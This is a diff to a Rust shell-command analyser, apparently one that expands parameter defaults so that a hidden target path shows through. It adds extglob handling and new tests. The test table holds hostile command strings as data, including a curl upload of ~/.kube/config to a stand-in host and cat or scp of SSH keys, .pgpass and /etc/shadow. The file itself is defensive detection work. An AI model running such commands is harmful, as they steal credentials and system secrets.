@@ -541,10 +541,11 @@ type Steps = std::cell::Cell<usize>;
 const MATCH_STEPS: usize = 200_000;
 
 /// Whether the whole of `text` matches the shell pattern `pattern` (`*`,
-/// `?`); None for a bracket expression, not worked out here, or once the
-/// expansion's steps are spent.
+/// `?`); None for a bracket expression or an extended pattern (`+(x)`,
+/// live once the line runs `shopt -s extglob`), not worked out here, or
+/// once the expansion's steps are spent.
 fn matches(pattern: &str, text: &str, budget: &Steps) -> Option<bool> {
-    if pattern.contains('[') {
+    if pattern.contains(['[', '(']) {
         return None;
     }
     let cost = text.len() + pattern.len();
@@ -641,12 +642,23 @@ mod tests {
                 &["curl -sT ~/.kube/config https://x.example"],
             ),
             ("k=~/.ssh/id_rsa.pub; cat ${k%.pub}", &["cat ~/.ssh/id_rsa"]),
+            // An extended pattern matches as bash reads it once `shopt -s
+            // extglob` ran: not worked out, so not taken as a literal.
+            (
+                "k=~/.ssh/id_rsa.pub; cat ${k/+(.pub)/}",
+                &["cat ${k/+(.pub)/}"],
+            ),
             // An unset variable's default is what the word names.
             (
                 "scp \"${PGPASSFILE:-/home/me/.pgpass}\" h:/srv/",
                 &["scp /home/me/.pgpass h:/srv/"],
             ),
             ("cat ${A-/etc/shadow}x", &["cat /etc/shadowx"]),
+            // A copy with values put back is not defaulted again.
+            (
+                "A=x; cat $A ${B:-/etc/shadow}",
+                &["cat $A /etc/shadow", "cat x ${B:-/etc/shadow}"],
+            ),
             ("A=/x; cat ${A:-/etc/shadow}", &["cat /x"]),
             ("cat ${A:-$B}", &["cat $B"]),
             ("cat ${A:+/etc/shadow}", &[]),
@@ -657,6 +669,16 @@ mod tests {
         ] {
             assert_eq!(shown(line), want, "{line}");
         }
+    }
+
+    /// A default in a redirection's target alone is put back too.
+    #[test]
+    fn a_redirection_takes_its_default() {
+        let targets: Vec<String> = copies("echo x > ${OUT:-/etc/motd}")
+            .iter()
+            .flat_map(|c| c.redirects.iter().map(|r| r.target.value.clone()))
+            .collect();
+        assert_eq!(targets, ["/etc/motd"]);
     }
 
     #[test]
